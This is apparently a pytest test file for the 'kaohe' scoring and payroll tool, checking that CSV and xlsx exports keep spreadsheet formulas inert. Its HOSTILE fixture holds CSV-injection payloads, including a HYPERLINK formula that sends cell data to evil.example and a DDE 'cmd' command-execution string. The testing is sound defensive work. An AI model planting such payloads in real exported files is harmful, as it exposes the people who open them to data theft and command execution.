"""Exports that cannot run: a name such as ``=HYPERLINK(...)`` stays text in every xlsx
(read back with openpyxl: a string cell, never a formula) and is prefixed with ``'`` in
every CSV, while kaohe's own numbers (also negative ones) are left as numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kaohe.engine.results import to_document
from kaohe.engine.score import score_file
from kaohe.presets import load_preset
from kaohe.reports.cells import csv_text
from kaohe.reports.forms import write_forms
from kaohe.store.db import Database
from kaohe.store.models import Employee
from kaohe.workflow import cycles
from kaohe.workflow.payroll import write_payroll

from .store.conftest import db  # noqa: F401 - a fresh database per test
from .store.factories import ADMIN, input_row, setup_org, write_inputs

HOSTILE = {
    "E001": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "E002": "+cmd|' /C calc'!A0",
    "E003": "-2+3+cmd",
    "E004": "@SUM(1+1)*cmd",
    "E005": "\t=1+1",
    "E006": "\r=1+1",
}
HEADER = ("employee,name,team,sales,sales_target,inquiries,buyers,received,replied,"
          "response_s,followup_amount,execution,satisfaction,bad_reviews,full_attendance,"
          "silent_sales")


def _sheet(tmp: Path) -> Path:
    lines = [HEADER]
    for code, name in HOSTILE.items():
        row = [code, name, "=TEAM()", "105000", "100000", "400", "190", "420", "410", "32",
               "35000", "比较满意", "98.5%", "0", "1", "20000"]
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow(row)
        lines.append(buf.getvalue())
    path = tmp / "in.csv"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


def _all_cells(path: Path) -> list[object]:
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    assert not [c.coordinate for c in cells if c.hyperlink is not None], "a link was written"
    return [c.value for c in cells]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@x", "\tx", "\rx"])
def test_csv_text_prefixes_what_a_spreadsheet_would_run(value: str) -> None:
    assert csv_text(value) == "'" + value
    assert csv_text("张三") == "张三" and csv_text(-12.5) == -12.5 and csv_text(None) is None


def test_results_csv_and_xlsx_from_the_cli(tmp_path: Path) -> None:
    sheet = _sheet(tmp_path)
    out = subprocess.run([sys.executable, "-m", "kaohe", "score", "--preset", "taobao-presales",
                          "--input", str(sheet), "--format", "csv"], capture_output=True,
                         text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))
    team = rows[0].index("team")
    assert {r[team] for r in rows[1:]} == {"'=TEAM()"}
    assert all(not c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
    target = tmp_path / "results.xlsx"
    out = subprocess.run([sys.executable, "-m", "kaohe", "score", "--preset", "taobao-presales",
                          "--input", str(sheet), "--format", "xlsx", "-o", str(target)],
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    values = _all_cells(target)
    assert "=TEAM()" in values  # the text as it was, stored as text


def test_forms_keep_names_as_text(tmp_path: Path) -> None:
    scored = score_file(load_preset("taobao-presales"), _sheet(tmp_path))
    files = write_forms(scored, to_document(scored.outcome, scored.table), tmp_path / "forms")
    seen: set[object] = set()
    for f in files:
        seen |= set(_all_cells(f))
    names = {v for v in seen if isinstance(v, str) and any(n in v for n in HOSTILE.values())}
    assert names, "the names are on the forms"


def test_payroll_xlsx_and_csv(db: Database, tmp_path: Path) -> None:  # noqa: F811
    setup_org(db, tmp_path)
    with db.transaction() as s:
        for emp in s.scalars(select(Employee)):
            emp.name = HOSTILE[emp.code]
        cid = cycles.open_cycle(s, scheme_ref="taobao-presales", period="2026-10",
                                actor=ADMIN).id
    rows = [input_row(f"E{i:03d}", "2026-10") for i in range(1, 7)]
    with db.transaction() as s:
        cycles.import_inputs(s, cycle_id=cid, path=write_inputs(tmp_path / "i.csv", rows),
                             actor=ADMIN)
        cycles.score_cycle(s, cycle_id=cid, actor=ADMIN)
        for step in ("submit_self_review", "submit_supervisor_review", "approve_second_review"):
            cycles.advance_all(s, cycle_id=cid, trigger=step, actor=ADMIN)
        cycles.cycle_transition(s, cycle_id=cid, trigger="approve", actor=ADMIN)
        cycles.cycle_transition(s, cycle_id=cid, trigger="publish", actor=ADMIN)
    with db.read() as s:
        write_payroll(s, cycle_id=cid, path=tmp_path / "payroll.xlsx")
        write_payroll(s, cycle_id=cid, path=tmp_path / "payroll.csv")
    ws = load_workbook(tmp_path / "payroll.xlsx").active
    header = [c.value for c in ws[1]]
    name_col = header.index("姓名") + 1
    total_col = header.index("应发合计") + 1
    for r in range(2, ws.max_row + 1):
        code = ws.cell(r, 1).value
        if code is None:  # a team's subtotal or the grand total
            continue
        cell = ws.cell(r, name_col)
        # (a carriage return is stored escaped, as the file format wants)
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == HOSTILE[code]
        assert ws.cell(r, total_col).data_type == "n"
    _all_cells(tmp_path / "payroll.xlsx")
    with (tmp_path / "payroll.csv").open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    names = {line[0]: line[1] for line in lines[1:]}
    assert names == {code: "'" + name for code, name in HOSTILE.items()}
    totals = [line[-1] for line in lines[1:]]
    assert all(t.replace(".", "", 1).lstrip("-").isdigit() for t in totals), totals
